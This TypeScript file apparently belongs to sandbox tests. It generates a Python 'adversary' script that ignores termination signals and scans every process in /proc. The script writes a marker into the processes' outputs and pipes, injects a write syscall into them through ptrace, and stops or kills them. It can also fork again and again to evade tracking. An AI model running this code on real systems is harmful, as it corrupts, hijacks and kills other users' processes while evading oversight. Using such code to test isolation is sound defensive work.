/**
 * A command that attacks whatever starts or runs in its sandbox: it looks at all processes again and again, and of each it stops,
 * kills, traces or writes into what it can, as its ways say. It ends with its sandbox, or never.
 */
export const waysToForge = ["outputs", "pipes", "trace", "stop", "kill"] as const;
export type WayToForge = (typeof waysToForge)[number];

/** What it writes wherever it can. */
export const forged = "FORGED";

/** Python. `hops`: it leaves its process for another again and again, so that nothing that was listed finds it. */
export const adversary = (ways: readonly WayToForge[], { hops = false } = {}): string => `
import ctypes, os, signal, stat, struct, time
ways = ${JSON.stringify(ways)}
word = b"${forged}\\n"
for one in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(one, signal.SIG_IGN)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
own = os.getpid()

def write(path):
    try:
        mode = os.stat(path).st_mode
        if not stat.S_ISFIFO(mode): return
        into = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError: return
    try: os.write(into, word)
    except OSError: pass
    os.close(into)

def call(pid, regs, number, *args):
    changed = (ctypes.c_ulonglong * 27)(*regs)
    changed[10] = number
    changed[15] = (1 << 64) - 1
    for place, arg in zip((14, 13, 12), args): changed[place] = arg
    libc.ptrace(13, pid, None, ctypes.addressof(changed))
    libc.ptrace(9, pid, None, None)
    os.waitpid(pid, 0x40000000)

def trace(pid):
    if os.uname().machine != "x86_64" or libc.ptrace(16, pid, None, None) != 0: return
    try:
        os.waitpid(pid, 0x40000000)
        regs = (ctypes.c_ulonglong * 27)()
        libc.ptrace(12, pid, None, ctypes.addressof(regs))
        text, room = regs[16], (regs[19] - 4096) & ~7
        libc.ptrace.restype = ctypes.c_long
        before = libc.ptrace(2, pid, text, None)
        libc.ptrace(5, pid, room, struct.unpack("q", word + b"\\0")[0])
        libc.ptrace(4, pid, text, struct.unpack("q", b"\\x0f\\x05" + b"\\x90" * 6)[0])
        call(pid, regs, 1, 1, room, len(word))
        libc.ptrace(4, pid, text, before)
        libc.ptrace(13, pid, None, ctypes.addressof(regs))
        libc.ptrace(17, pid, None, None)
    except OSError: pass

def attack(pid):
    folder = f"/proc/{pid}"
    if "outputs" in ways:
        for fd in (1, 2): write(f"{folder}/fd/{fd}")
    if "pipes" in ways:
        try: fds = os.listdir(f"{folder}/fd")
        except OSError: fds = []
        for fd in fds: write(f"{folder}/fd/{fd}")
    try:
        if os.stat(folder).st_uid != os.getuid() or pid == 1: return
        if "trace" in ways: trace(pid)
        if "stop" in ways:
            os.kill(pid, signal.SIGSTOP)
            time.sleep(0.001)
            os.kill(pid, signal.SIGCONT)
        if "kill" in ways: os.kill(pid, signal.SIGKILL)
    except OSError: pass

while True:
    mine = os.getpid()
    ${hops ? "if os.fork() != 0: os._exit(0)" : "pass"}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (mine, os.getpid(), os.getppid()): attack(int(name))
`;
